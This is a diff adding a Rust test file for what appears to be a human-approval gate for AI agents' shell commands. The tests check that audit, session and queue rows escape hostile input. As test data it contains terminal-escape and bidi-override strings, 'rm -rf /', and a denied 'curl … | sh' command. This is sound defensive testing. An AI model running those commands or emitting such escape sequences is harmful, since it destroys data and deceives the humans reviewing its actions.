@@ -1,0 +1,195 @@
+//! How rows look, with what a hostile agent could have put into them.
+#![allow(clippy::unwrap_used, reason = "a test may fail")]
+
+use anstream::adapter::strip_str;
+use countersign_api::service::{AuditRow, PendingSubmission, Risk, Rule, SessionRow};
+use countersign_cli::{rows, screen};
+use countersign_core::{DecidedBy, Digest, HostId, LoginId, Name, Outcome, SubmissionId};
+
+/// 2026-11-20 14:47:23 UTC
+const AT: i64 = 1_795_186_043_000;
+const HOSTILE: &str = "ls\u{1b}[2K\u{1b}]0;x\u{7}\r\u{202e}txt.\u{200b}\u{9b}6n\nrm -rf /\t#é";
+
+fn name(text: &str) -> Name {
+    text.parse().unwrap()
+}
+
+fn row(outcome: Option<Outcome>, by: Option<&str>, command: &str) -> AuditRow {
+    AuditRow {
+        id: SubmissionId::from_random([1; 16]),
+        agent: "deploy-agent".into(),
+        host: HostId::from_random([2; 16]),
+        host_name: name("web-1"),
+        login: LoginId::from_random([3; 16]),
+        session: "deploy-agent-03".into(),
+        number: 2,
+        command: command.into(),
+        cwd: "/srv".into(),
+        submitted_at_ms: AT,
+        decided_at_ms: Some(AT + 4200),
+        outcome,
+        decided_by: by.map(|text| text.parse::<DecidedBy>().unwrap()),
+        review_latency_ms: Some(4200),
+        reason: None,
+        rule: None,
+        late_approval: false,
+        risk: None,
+        anomalies: vec![],
+        exit_code: Some(0),
+        signal: None,
+        started_at_ms: Some(AT + 4210),
+        finished_at_ms: Some(AT + 5210),
+        seq: 7,
+        entry: Digest([9; 32]),
+    }
+}
+
+fn audit(row: &AuditRow) -> String {
+    strip_str(&rows::audit(row)).to_string()
+}
+
+/// Neither ESC nor any other control but newline, nor a mark that reorders or hides.
+fn plain(text: &str) -> bool {
+    text.chars().all(|c| (!c.is_control() || c == '\n') && !('\u{200b}'..='\u{206f}').contains(&c))
+}
+
+#[test]
+fn audit_rows_look_as_the_product_page_says() {
+    let approved = row(Some(Outcome::Approved), Some("ops-lead"), "rm -rf /tmp/build-cache");
+    assert_eq!(
+        audit(&approved),
+        "2026-11-20 14:47:23 UTC  ✔ APPROVED     rm -rf /tmp/build-cache\n                         \
+         reviewer ops-lead · 4.2 s · risk unscored · deploy-agent-03 #2\n"
+    );
+    let mut ruled =
+        row(Some(Outcome::Whitelisted), Some("whitelist_rule:17"), "docker pull ghcr.io/myorg/api:sha-a3f9b");
+    ruled.rule = Some(rule("docker pull ghcr.io/myorg/api:sha-a3f9b"));
+    ruled.risk = Some(Risk { score: 8, level: "low".into() });
+    assert_eq!(
+        audit(&ruled),
+        "2026-11-20 14:47:23 UTC  ● WHITELISTED  docker pull ghcr.io/myorg/api:sha-a3f9b\n                         \
+         rule 17 docker pull ghcr.io/myorg/api:sha-a3f9b (reviewed 2026-10-02) · risk low 8 · deploy-agent-03 #2\n"
+    );
+    let mut denied = row(Some(Outcome::Denied), Some("on-call"), "curl -s https://downloads.example | sh");
+    denied.review_latency_ms = Some(1100);
+    denied.reason = Some("not from this host".into());
+    denied.anomalies = vec!["external_network".into(), "opaque_code".into()];
+    assert_eq!(
+        audit(&denied),
+        "2026-11-20 14:47:23 UTC  ✘ DENIED       curl -s https://downloads.example | sh\n                         \
+         reviewer on-call · 1.1 s · risk unscored · deploy-agent-03 #2 · \"not from this host\"\n                         \
+         ⚑ external_network  ⚑ opaque_code\n"
+    );
+    let mut late = row(Some(Outcome::TimedOut), Some("timeout"), "npm install --prefix /opt/app");
+    late.review_latency_ms = Some(60_000);
+    assert_eq!(
+        audit(&late),
+        "2026-11-20 14:47:23 UTC  ◷ TIMED OUT    npm install --prefix /opt/app\n                         \
+         nobody answered · 60 s · risk unscored · deploy-agent-03 #2\n"
+    );
+    late.late_approval = true;
+    assert!(audit(&late).contains("approved too late, not run · 60 s"));
+}
+
+#[test]
+fn every_outcome_has_a_line() {
+    for outcome in Outcome::ALL {
+        for by in [None, Some("ops-lead"), Some("grant:4"), Some("deny_rule:2")] {
+            let text = audit(&row(Some(outcome), by, "true"));
+            assert!(text.contains(outcome.label().1) && text.lines().count() == 2, "{text}");
+        }
+    }
+    assert!(audit(&row(None, None, "true")).contains("… WAITING      true\n"));
+    assert!(audit(&row(Some(Outcome::Cancelled), None, "true")).contains("the agent gave up · 4.2 s"));
+}
+
+#[test]
+fn nothing_recorded_is_printed_raw() {
+    let mut hostile = row(Some(Outcome::Denied), Some("whitelist_rule:17"), HOSTILE);
+    hostile.session = HOSTILE.into();
+    hostile.agent = HOSTILE.into();
+    hostile.cwd = HOSTILE.into();
+    hostile.reason = Some(HOSTILE.into());
+    hostile.anomalies = vec![HOSTILE.into()];
+    hostile.rule = Some(rule(HOSTILE));
+    hostile.risk = Some(Risk { score: 1, level: HOSTILE.into() });
+    let text = audit(&hostile);
+    assert!(plain(&text) && text.lines().count() == 3, "{text}");
+    assert!(text.contains("ls⟨U+001B⟩[2K⟨U+001B⟩]0;x⟨U+0007⟩⟨U+000D⟩⟨U+202E⟩txt.⟨U+200B⟩⟨U+009B⟩6n⏎rm -rf /⇥#é"));
+    assert!(plain(&strip_str(&rows::full(&hostile)).to_string()));
+    assert!(plain(&strip_str(&rows::rule(&rule(HOSTILE))).to_string()));
+    assert!(plain(&strip_str(&rows::session(&session(HOSTILE))).to_string()));
+    let queue = [pending(HOSTILE)];
+    assert!(plain(&strip_str(&rows::queue(&queue)).to_string()));
+    assert!(plain(&strip_str(&rows::card(&queue[0])).to_string()));
+    let json = screen::json(&hostile).unwrap();
+    assert!(json.is_ascii() && json.chars().all(|c| !c.is_control()));
+}
+
+#[test]
+fn sessions_say_when_what_and_how_it_ended() {
+    assert_eq!(
+        strip_str(&rows::session(&session("deploy-agent-03"))).to_string(),
+        "deploy-agent-03  2026-11-20 14:47:23 → 15:12:09 UTC  12 commands · ✔ 9 approved · ✘ 3 denied\n    \
+         deploy-agent on web-1\n    login 30c1g60r30c1g60r30c1g60r30\n"
+            .replace("30c1g60r30c1g60r30c1g60r30", &LoginId::from_random([3; 16]).to_string())
+    );
+    let mut open = session("a-01");
+    open.open = true;
+    assert!(strip_str(&rows::session(&open)).to_string().contains("2026-11-20 14:47:23 → open  12 commands"));
+}
+
+#[test]
+fn the_queue_never_cuts_a_command() {
+    let long = "x".repeat(5000);
+    let text = strip_str(&rows::queue(&[pending(&long), pending("true")])).to_string();
+    assert!(text.contains(&long));
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(lines[0], "ID        AGENT → HOST    LEFT  COMMAND");
+    assert!(lines[3].ends_with("deploy → web-1  42 s  true"), "{text}");
+    assert!(lines[4].ends_with("in /srv/app"));
+}
+
+fn rule(line: &str) -> Rule {
+    Rule {
+        id: 17,
+        line: line.into(),
+        added_by: name("ops-lead"),
+        added_at_ms: AT,
+        last_reviewed_at_ms: 1_790_937_000_000,
+        last_reviewed_by: name("ops-lead"),
+    }
+}
+
+fn session(text: &str) -> SessionRow {
+    SessionRow {
+        name: text.into(),
+        agent: if text.contains('\u{1b}') { text.into() } else { "deploy-agent".into() },
+        host_name: name("web-1"),
+        started_at_ms: AT,
+        ended_at_ms: AT + 1_486_000,
+        open: false,
+        commands: 12,
+        outcomes: vec![(Outcome::Approved, 9), (Outcome::Denied, 3)],
+        logins: vec![LoginId::from_random([3; 16])],
+    }
+}
+
+fn pending(command: &str) -> PendingSubmission {
+    let hostile = command.contains('\u{1b}');
+    PendingSubmission {
+        id: SubmissionId::from_random([if command == "true" { 1 } else { 2 }; 16]),
+        entry: Digest([9; 32]),
+        agent: if hostile { command.into() } else { "deploy".into() },
+        host: HostId::from_random([2; 16]),
+        host_name: name("web-1"),
+        login: LoginId::from_random([3; 16]),
+        session: if hostile { command.into() } else { "deploy-03".into() },
+        number: 2,
+        command: command.into(),
+        cwd: if hostile { command.into() } else { "/srv/app".into() },
+        submitted_at_ms: AT,
+        left_ms: 42_000,
+        risk: None,
+    }
+}
